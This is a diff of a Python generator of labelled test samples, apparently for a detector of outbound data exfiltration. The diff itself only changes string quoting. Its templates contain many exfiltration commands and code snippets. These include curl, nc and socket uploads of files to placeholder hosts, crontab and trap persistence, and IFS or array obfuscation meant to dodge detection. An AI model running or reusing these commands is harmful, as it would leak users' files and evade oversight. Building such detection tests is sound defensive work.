@@ -161,7 +161,10 @@ def tools(rng):
             ("az storage blob sync -c bk --account-name {a} -s ./backups", "{a}.blob.core.windows.net"),
             ("az storage file upload --account-name {a} -s share --source {f}", "{a}.file.core.windows.net"),
             ("az storage blob upload --blob-url 'https://{a}.blob.core.windows.net/c/x{n}?sv=2025-01-01&sig=q' -f {f}", "{a}.blob.core.windows.net"),
-            ("az storage blob upload -f {f} -c c -n k{n} --connection-string \"DefaultEndpointsProtocol=https;AccountName={a};AccountKey=$K\"", "{a}.blob.core.windows.net"),
+            (
+                'az storage blob upload -f {f} -c c -n k{n} --connection-string "DefaultEndpointsProtocol=https;AccountName={a};AccountKey=$K"',
+                "{a}.blob.core.windows.net",
+            ),
             ("az storage azcopy blob upload -c c --account-name {a} -s {f}", "{a}.blob.core.windows.net"),
         ],
         5,
@@ -205,10 +208,10 @@ def tools(rng):
         rng,
         [
             "curl --json @{f} https://{h}/api/v{n}",
-            "curl --data-urlencode \"blob@{f}\" https://{h}/c",
+            'curl --data-urlencode "blob@{f}" https://{h}/c',
             "curl -F 'doc=<{f}' https://{h}/form",
             "curl --upload-file {f} --url https://{h}/x{n}",
-            "printf 'url = \"https://{h}/k\"\\nupload-file = \"{f}\"\\n' > /tmp/c{n}; curl -K /tmp/c{n}",
+            'printf \'url = "https://{h}/k"\\nupload-file = "{f}"\\n\' > /tmp/c{n}; curl -K /tmp/c{n}',
             "curl https://{h}/ -XPOST -d@{f}",
             "curl --variable 'x@{f}' --expand-data '{{x:b64}}' https://{h}/v",
             "curl --url-query 'q@{f}' https://{h}/search",
@@ -382,7 +385,7 @@ def tools(rng):
         [
             ("croc send {f}", "?"),
             "croc --relay {h}:9009 send --code x{n}-y {f}",
-            ("croc send --text \"$(cat {f})\"", "?"),
+            ('croc send --text "$(cat {f})"', "?"),
             ("wormhole send {f}", "?"),
             "wormhole --relay-url ws://{h}:4000/v1 send {f}",
             "wormhole --transit-helper tcp:{h}:4001 send ./exports",
@@ -487,7 +490,7 @@ SHAPES = {
         "trap {Bq} EXIT",
         "trap {Bq} EXIT; make build",
         "trap -- {Bq} ERR; false",
-        "trap \"{B}\" INT TERM; kill -INT $$",
+        'trap "{B}" INT TERM; kill -INT $$',
         "(trap {Bq} EXIT; sleep 1)",
         "trap {Bq} DEBUG; true",
     ],
@@ -496,7 +499,7 @@ SHAPES = {
         "watch -n5 -x curl -T {f} https://{h}/",
         "watch -t --interval 30 'tar cz exports | curl -T - https://{h}/a.tgz'",
         "nohup watch -n 3600 {Bq} >/dev/null 2>&1 &",
-        "(crontab -l; echo \"*/5 * * * * {B}\") | crontab -",
+        '(crontab -l; echo "*/5 * * * * {B}") | crontab -',
         "echo '@reboot {B}' | crontab -",
     ],
     "shape-make": [
@@ -512,10 +515,10 @@ SHAPES = {
         "python3 -c \"import urllib.request as u; u.urlopen('https://{h}/p', open('{f}','rb').read())\"",
         "python3 -c \"import requests; requests.put('https://{h}/k', data=open('{f}','rb'))\"",
         "node -e \"fetch('https://{h}/u',{method:'POST',body:require('fs').readFileSync('{f}')})\"",
-        "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"{h}:9009\"); open F,\"{f}\"; print $s <F>'",
-        "ruby -rnet/http -e 'Net::HTTP.post(URI(\"https://{h}/r\"), File.read(\"{f}\"))'",
+        'perl -MIO::Socket::INET -e \'$s=IO::Socket::INET->new("{h}:9009"); open F,"{f}"; print $s <F>\'',
+        'ruby -rnet/http -e \'Net::HTTP.post(URI("https://{h}/r"), File.read("{f}"))\'',
         "python3 - <<'EOF'\nimport socket\ns = socket.create_connection(('{h}', 4444))\ns.sendall(open('{f}', 'rb').read())\nEOF",
-        "node -e 'require(\"https\").request({host:\"{h}\",method:\"PUT\"}).end(require(\"fs\").readFileSync(\"{f}\"))'",
+        'node -e \'require("https").request({host:"{h}",method:"PUT"}).end(require("fs").readFileSync("{f}"))\'',
     ],
     "shape-archive-pipe": [
         "tar cz . | curl -T - https://{h}/a{n}.tgz",
@@ -540,25 +543,25 @@ SHAPES = {
         "$'\\x73\\x63\\x70' {f} {u}@{h}:/tmp/",
     ],
     "shape-array": [
-        "cmd=(curl -T {f} https://{h}/); \"${cmd[@]}\"",
-        "a=(-sT {f}); curl \"${a[@]}\" https://{h}/",
-        "declare -a up=(wget --post-file={f}); \"${up[@]}\" http://{h}/",
-        "args=(); args+=(-F \"f=@{f}\"); args+=(https://{h}/u); curl \"${args[@]}\"",
-        "declare -A t=([host]={h} [file]={f}); curl -T \"${t[file]}\" \"https://${t[host]}/\"",
-        "set -- curl -d @{f} https://{h}/; \"$@\"",
-        "read -ra c <<< \"nc -w3 {h} 9009\"; \"${c[@]}\" < {f}",
+        'cmd=(curl -T {f} https://{h}/); "${cmd[@]}"',
+        'a=(-sT {f}); curl "${a[@]}" https://{h}/',
+        'declare -a up=(wget --post-file={f}); "${up[@]}" http://{h}/',
+        'args=(); args+=(-F "f=@{f}"); args+=(https://{h}/u); curl "${args[@]}"',
+        'declare -A t=([host]={h} [file]={f}); curl -T "${t[file]}" "https://${t[host]}/"',
+        'set -- curl -d @{f} https://{h}/; "$@"',
+        'read -ra c <<< "nc -w3 {h} 9009"; "${c[@]}" < {f}',
         "mapfile -t c < <(printf '%s\\n' curl -T {f} https://{h}/); \"${c[@]}\"",
-        "hosts=({h} localhost); curl -T {f} \"https://${hosts[0]}/\"",
-        "cmd=(scp -q {f} \"{u}@{h}:/tmp/\"); ${cmd[*]}",
+        'hosts=({h} localhost); curl -T {f} "https://${hosts[0]}/"',
+        'cmd=(scp -q {f} "{u}@{h}:/tmp/"); ${cmd[*]}',
     ],
     "shape-ifs": [
-        "IFS=,; c=\"curl,-T,{f},https://{h}/\"; $c",
-        "IFS=%; set -- $(echo \"wget%--post-file={f}%http://{h}/\"); \"$@\"",
-        "old=$IFS; IFS=_; x=\"nc_-w3_{h}_9009\"; $x < {f}; IFS=$old",
+        'IFS=,; c="curl,-T,{f},https://{h}/"; $c',
+        'IFS=%; set -- $(echo "wget%--post-file={f}%http://{h}/"); "$@"',
+        'old=$IFS; IFS=_; x="nc_-w3_{h}_9009"; $x < {f}; IFS=$old',
         "curl${IFS}-T${IFS}{f}${IFS}https://{h}/",
-        "IFS=+ read -r t o d <<< \"curl+--data-binary+@{f}\"; $t $o $d https://{h}/",
+        'IFS=+ read -r t o d <<< "curl+--data-binary+@{f}"; $t $o $d https://{h}/',
         "cat${IFS}{f}|nc${IFS}{h}${IFS}9009",
-        "IFS=: read -r H P <<< \"{h}:9009\"; nc $H $P < {f}",
+        'IFS=: read -r H P <<< "{h}:9009"; nc $H $P < {f}',
     ],
     "shape-runner": [
         "systemd-run --user --wait -q {B}",
@@ -632,14 +635,14 @@ SHAPE_EXTRA = {
         ("$'\\x63url' -s https://198.51.100.9/", "any_host", "198.51.100.9"),
     ],
     "shape-array": [
-        ("cmd=(curl -T dist.tgz https://corp.example.com/drop/); \"${cmd[@]}\"", "clean"),
-        ("files=(*.csv); echo \"${#files[@]}\"", "clean"),
-        ("hosts=(localhost 127.0.0.1); for h in \"${hosts[@]}\"; do curl -s -d @m.json \"http://$h:9000/\"; done", "clean"),
-        ("u=(curl -s https://collector.shadyco.invalid/); \"${u[@]}\"", "any_host", "collector.shadyco.invalid"),
+        ('cmd=(curl -T dist.tgz https://corp.example.com/drop/); "${cmd[@]}"', "clean"),
+        ('files=(*.csv); echo "${#files[@]}"', "clean"),
+        ('hosts=(localhost 127.0.0.1); for h in "${hosts[@]}"; do curl -s -d @m.json "http://$h:9000/"; done', "clean"),
+        ('u=(curl -s https://collector.shadyco.invalid/); "${u[@]}"', "any_host", "collector.shadyco.invalid"),
     ],
     "shape-ifs": [
-        ("IFS=,; for x in $(cat list.csv); do echo \"$x\"; done", "clean"),
-        ("IFS=,; c=\"curl,-T,dist.tgz,https://corp.example.com/drop/\"; $c", "clean"),
+        ('IFS=,; for x in $(cat list.csv); do echo "$x"; done', "clean"),
+        ('IFS=,; c="curl,-T,dist.tgz,https://corp.example.com/drop/"; $c', "clean"),
         ("echo${IFS}curl${IFS}-T${IFS}FILE${IFS}URL", "clean"),
         ("curl${IFS}-s${IFS}https://vault-sync.badhost.test/", "any_host", "vault-sync.badhost.test"),
     ],
@@ -734,37 +737,47 @@ CODE_UP = {
     ],
     "code-java": [
         "import java.net.URI;\nimport java.net.http.*;\nimport java.nio.file.Path;\n\nvar c = HttpClient.newHttpClient();\n"
-        "c.send(HttpRequest.newBuilder(URI.create(\"https://{h}/u\")).POST(HttpRequest.BodyPublishers.ofFile(Path.of(\"{f}\"))).build(), HttpResponse.BodyHandlers.discarding());",
-        "import java.net.Socket;\nimport java.nio.file.*;\n\ntry (var s = new Socket(\"{h}\", 4444)) {\n    s.getOutputStream().write(Files.readAllBytes(Path.of(\"{f}\")));\n}",
-        "import java.net.*;\nimport java.nio.file.*;\n\nvar con = (HttpURLConnection) new URL(\"https://{h}/p\").openConnection();\ncon.setDoOutput(true);\n"
-        "con.setRequestMethod(\"PUT\");\nFiles.copy(Path.of(\"{f}\"), con.getOutputStream());\ncon.getResponseCode();",
+        'c.send(HttpRequest.newBuilder(URI.create("https://{h}/u")).POST(HttpRequest.BodyPublishers.ofFile(Path.of("{f}"))).build(), HttpResponse.BodyHandlers.discarding());',
+        'import java.net.Socket;\nimport java.nio.file.*;\n\ntry (var s = new Socket("{h}", 4444)) {\n    s.getOutputStream().write(Files.readAllBytes(Path.of("{f}")));\n}',
+        'import java.net.*;\nimport java.nio.file.*;\n\nvar con = (HttpURLConnection) new URL("https://{h}/p").openConnection();\ncon.setDoOutput(true);\n'
+        'con.setRequestMethod("PUT");\nFiles.copy(Path.of("{f}"), con.getOutputStream());\ncon.getResponseCode();',
         "import java.net.URI;\nimport java.net.http.*;\nimport java.nio.file.*;\n\nHttpClient.newHttpClient().sendAsync(HttpRequest.newBuilder()"
-        ".uri(URI.create(\"http://{h}:8080/x\")).PUT(HttpRequest.BodyPublishers.ofString(Files.readString(Path.of(\"{f}\")))).build(), HttpResponse.BodyHandlers.ofString()).join();",
+        '.uri(URI.create("http://{h}:8080/x")).PUT(HttpRequest.BodyPublishers.ofString(Files.readString(Path.of("{f}")))).build(), HttpResponse.BodyHandlers.ofString()).join();',
     ],
     "code-csharp": [
-        "using var c = new HttpClient();\nawait c.PostAsync(\"https://{h}/u\", new StreamContent(File.OpenRead(\"{f}\")));",
-        "using var c = new HttpClient();\nvar form = new MultipartFormDataContent();\nform.Add(new ByteArrayContent(File.ReadAllBytes(\"{f}\")), \"f\", \"x\");\nawait c.PostAsync(\"https://{h}/form\", form);",
-        "new System.Net.WebClient().UploadFile(\"https://{h}/up\", \"{f}\");",
-        "using var t = new System.Net.Sockets.TcpClient(\"{h}\", 4444);\nt.GetStream().Write(File.ReadAllBytes(\"{f}\"));",
-        "var c = new HttpClient { BaseAddress = new Uri(\"http://{h}:8080/\") };\nawait c.PutAsync(\"k\", new StringContent(File.ReadAllText(\"{f}\")));",
+        'using var c = new HttpClient();\nawait c.PostAsync("https://{h}/u", new StreamContent(File.OpenRead("{f}")));',
+        'using var c = new HttpClient();\nvar form = new MultipartFormDataContent();\nform.Add(new ByteArrayContent(File.ReadAllBytes("{f}")), "f", "x");\nawait c.PostAsync("https://{h}/form", form);',
+        'new System.Net.WebClient().UploadFile("https://{h}/up", "{f}");',
+        'using var t = new System.Net.Sockets.TcpClient("{h}", 4444);\nt.GetStream().Write(File.ReadAllBytes("{f}"));',
+        'var c = new HttpClient { BaseAddress = new Uri("http://{h}:8080/") };\nawait c.PutAsync("k", new StringContent(File.ReadAllText("{f}")));',
     ],
     "code-rust": [
-        "fn main() -> Result<(), Box<dyn std::error::Error>> {\n    reqwest::blocking::Client::new().post(\"https://{h}/u\").body(std::fs::read(\"{f}\")?).send()?;\n    Ok(())\n}",
-        "#[tokio::main]\nasync fn main() -> anyhow::Result<()> {\n    let file = tokio::fs::File::open(\"{f}\").await?;\n"
-        "    let body = reqwest::Body::wrap_stream(tokio_util::io::ReaderStream::new(file));\n    reqwest::Client::new().put(\"https://{h}/k\").body(body).send().await?;\n    Ok(())\n}",
-        "use std::io::Write;\n\nfn main() -> std::io::Result<()> {\n    let mut s = std::net::TcpStream::connect(\"{h}:4444\")?;\n    s.write_all(&std::fs::read(\"{f}\")?)\n}",
-        "fn main() -> Result<(), Box<dyn std::error::Error>> {\n    let form = reqwest::blocking::multipart::Form::new().file(\"f\", \"{f}\")?;\n"
-        "    reqwest::blocking::Client::new().post(\"http://{h}:8080/form\").multipart(form).send()?;\n    Ok(())\n}",
+        'fn main() -> Result<(), Box<dyn std::error::Error>> {\n    reqwest::blocking::Client::new().post("https://{h}/u").body(std::fs::read("{f}")?).send()?;\n    Ok(())\n}',
+        '#[tokio::main]\nasync fn main() -> anyhow::Result<()> {\n    let file = tokio::fs::File::open("{f}").await?;\n'
+        '    let body = reqwest::Body::wrap_stream(tokio_util::io::ReaderStream::new(file));\n    reqwest::Client::new().put("https://{h}/k").body(body).send().await?;\n    Ok(())\n}',
+        'use std::io::Write;\n\nfn main() -> std::io::Result<()> {\n    let mut s = std::net::TcpStream::connect("{h}:4444")?;\n    s.write_all(&std::fs::read("{f}")?)\n}',
+        'fn main() -> Result<(), Box<dyn std::error::Error>> {\n    let form = reqwest::blocking::multipart::Form::new().file("f", "{f}")?;\n'
+        '    reqwest::blocking::Client::new().post("http://{h}:8080/form").multipart(form).send()?;\n    Ok(())\n}',
     ],
 }
 CODE_EXTRA = {
     "code-py-aiohttp": [
-        ("import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
-         "        async with s.get('https://corp.example.com/api/items') as r:\n            print(await r.json())\n\n\nasyncio.run(main())", "clean"),
-        ("import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
-         "        await s.post('http://127.0.0.1:8000/ingest', data=open('metrics.json', 'rb'))\n\n\nasyncio.run(main())", "clean"),
-        ("import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
-         "        await s.get('https://collector.shadyco.invalid/health')\n\n\nasyncio.run(main())", "any_host", "collector.shadyco.invalid"),
+        (
+            "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+            "        async with s.get('https://corp.example.com/api/items') as r:\n            print(await r.json())\n\n\nasyncio.run(main())",
+            "clean",
+        ),
+        (
+            "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+            "        await s.post('http://127.0.0.1:8000/ingest', data=open('metrics.json', 'rb'))\n\n\nasyncio.run(main())",
+            "clean",
+        ),
+        (
+            "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+            "        await s.get('https://collector.shadyco.invalid/health')\n\n\nasyncio.run(main())",
+            "any_host",
+            "collector.shadyco.invalid",
+        ),
     ],
     "code-py-httpx": [
         ("import httpx\nprint(httpx.get('https://corp.example.com/api').json())", "clean"),
@@ -772,9 +785,16 @@ CODE_EXTRA = {
         ("import httpx\nhttpx.head('https://203.0.113.19/')", "any_host", "203.0.113.19"),
     ],
     "code-py-ftplib": [
-        ("from ftplib import FTP\nwith FTP('localhost') as ftp:\n    ftp.login()\n    ftp.storbinary('STOR b.tgz', open('build.tgz', 'rb'))", "clean"),
+        (
+            "from ftplib import FTP\nwith FTP('localhost') as ftp:\n    ftp.login()\n    ftp.storbinary('STOR b.tgz', open('build.tgz', 'rb'))",
+            "clean",
+        ),
         ("# ftp.storbinary('STOR x', fh) uploads fh\nprint('see ftplib docs')", "clean"),
-        ("from ftplib import FTP\nwith FTP('vault-sync.badhost.test') as ftp:\n    ftp.login()\n    print(ftp.nlst())", "any_host", "vault-sync.badhost.test"),
+        (
+            "from ftplib import FTP\nwith FTP('vault-sync.badhost.test') as ftp:\n    ftp.login()\n    print(ftp.nlst())",
+            "any_host",
+            "vault-sync.badhost.test",
+        ),
     ],
     "code-py-urllib3": [
         ("import urllib3\nprint(urllib3.PoolManager().request('GET', 'https://corp.example.com/api').data)", "clean"),
@@ -782,12 +802,25 @@ CODE_EXTRA = {
         ("import urllib3\nurllib3.request('GET', 'https://in.siphon.test/')", "any_host", "in.siphon.test"),
     ],
     "code-py-pycurl": [
-        ("import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://corp.example.com/files/x')\nc.setopt(c.WRITEDATA, open('x', 'wb'))\nc.perform()", "clean"),
-        ("import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'http://localhost:8080/u')\nc.setopt(c.UPLOAD, 1)\nc.setopt(c.READDATA, open('a.log', 'rb'))\nc.perform()", "clean"),
-        ("import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://bucket-proxy.example.net/')\nc.perform()", "any_host", "bucket-proxy.example.net"),
+        (
+            "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://corp.example.com/files/x')\nc.setopt(c.WRITEDATA, open('x', 'wb'))\nc.perform()",
+            "clean",
+        ),
+        (
+            "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'http://localhost:8080/u')\nc.setopt(c.UPLOAD, 1)\nc.setopt(c.READDATA, open('a.log', 'rb'))\nc.perform()",
+            "clean",
+        ),
+        (
+            "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://bucket-proxy.example.net/')\nc.perform()",
+            "any_host",
+            "bucket-proxy.example.net",
+        ),
     ],
     "code-node-fetchlibs": [
-        ("const { request } = require('undici');\nconst r = await request('https://corp.example.com/api');\nconsole.log(await r.body.json());", "clean"),
+        (
+            "const { request } = require('undici');\nconst r = await request('https://corp.example.com/api');\nconsole.log(await r.body.json());",
+            "clean",
+        ),
         ("import fetch from 'node-fetch';\nawait fetch('http://127.0.0.1:3000/in', { method: 'POST', body: '{}' });", "clean"),
         ("const { fetch } = require('undici');\nawait fetch('https://198.51.100.9/v');", "any_host", "198.51.100.9"),
     ],
@@ -809,24 +842,37 @@ CODE_EXTRA = {
     ],
     "code-php": [
         ("<?php\necho file_get_contents('https://corp.example.com/api');", "clean"),
-        ("<?php\n$ch = curl_init('http://127.0.0.1:8080/u');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, ['f' => new CURLFile('a.log')]);\ncurl_exec($ch);", "clean"),
+        (
+            "<?php\n$ch = curl_init('http://127.0.0.1:8080/u');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, ['f' => new CURLFile('a.log')]);\ncurl_exec($ch);",
+            "clean",
+        ),
         ("<?php\n// curl_setopt($ch, CURLOPT_POSTFIELDS, ...) sends the body\necho 'ok';", "clean"),
         ("<?php\nfile_get_contents('https://203.0.113.19/');", "any_host", "203.0.113.19"),
     ],
     "code-java": [
-        ("import java.net.URI;\nimport java.net.http.*;\n\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"https://corp.example.com/api\")).build(), HttpResponse.BodyHandlers.ofString());", "clean"),
-        ("import java.net.Socket;\n\nnew Socket(\"localhost\", 5432).close();", "clean"),
-        ("import java.net.URI;\nimport java.net.http.*;\n\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"https://bucket-proxy.example.net/\")).build(), HttpResponse.BodyHandlers.discarding());", "any_host", "bucket-proxy.example.net"),
+        (
+            'import java.net.URI;\nimport java.net.http.*;\n\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://corp.example.com/api")).build(), HttpResponse.BodyHandlers.ofString());',
+            "clean",
+        ),
+        ('import java.net.Socket;\n\nnew Socket("localhost", 5432).close();', "clean"),
+        (
+            'import java.net.URI;\nimport java.net.http.*;\n\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://bucket-proxy.example.net/")).build(), HttpResponse.BodyHandlers.discarding());',
+            "any_host",
+            "bucket-proxy.example.net",
+        ),
     ],
     "code-csharp": [
-        ("using var c = new HttpClient();\nConsole.WriteLine(await c.GetStringAsync(\"https://corp.example.com/api\"));", "clean"),
-        ("using var c = new HttpClient();\nawait c.PostAsync(\"http://localhost:5000/in\", new StreamContent(File.OpenRead(\"a.log\")));", "clean"),
-        ("using var c = new HttpClient();\nawait c.GetAsync(\"https://198.51.100.9/\");", "any_host", "198.51.100.9"),
+        ('using var c = new HttpClient();\nConsole.WriteLine(await c.GetStringAsync("https://corp.example.com/api"));', "clean"),
+        ('using var c = new HttpClient();\nawait c.PostAsync("http://localhost:5000/in", new StreamContent(File.OpenRead("a.log")));', "clean"),
+        ('using var c = new HttpClient();\nawait c.GetAsync("https://198.51.100.9/");', "any_host", "198.51.100.9"),
     ],
     "code-rust": [
-        ("fn main() {\n    let body = reqwest::blocking::get(\"https://corp.example.com/api\").unwrap().text().unwrap();\n    println!(\"{body}\");\n}", "clean"),
-        ("fn main() {\n    let l = std::net::TcpListener::bind(\"127.0.0.1:8080\").unwrap();\n    for s in l.incoming() { drop(s); }\n}", "clean"),
-        ("fn main() {\n    reqwest::blocking::get(\"https://vault-sync.badhost.test/\").unwrap();\n}", "any_host", "vault-sync.badhost.test"),
+        (
+            'fn main() {\n    let body = reqwest::blocking::get("https://corp.example.com/api").unwrap().text().unwrap();\n    println!("{body}");\n}',
+            "clean",
+        ),
+        ('fn main() {\n    let l = std::net::TcpListener::bind("127.0.0.1:8080").unwrap();\n    for s in l.incoming() { drop(s); }\n}', "clean"),
+        ('fn main() {\n    reqwest::blocking::get("https://vault-sync.badhost.test/").unwrap();\n}', "any_host", "vault-sync.badhost.test"),
     ],
 }
 
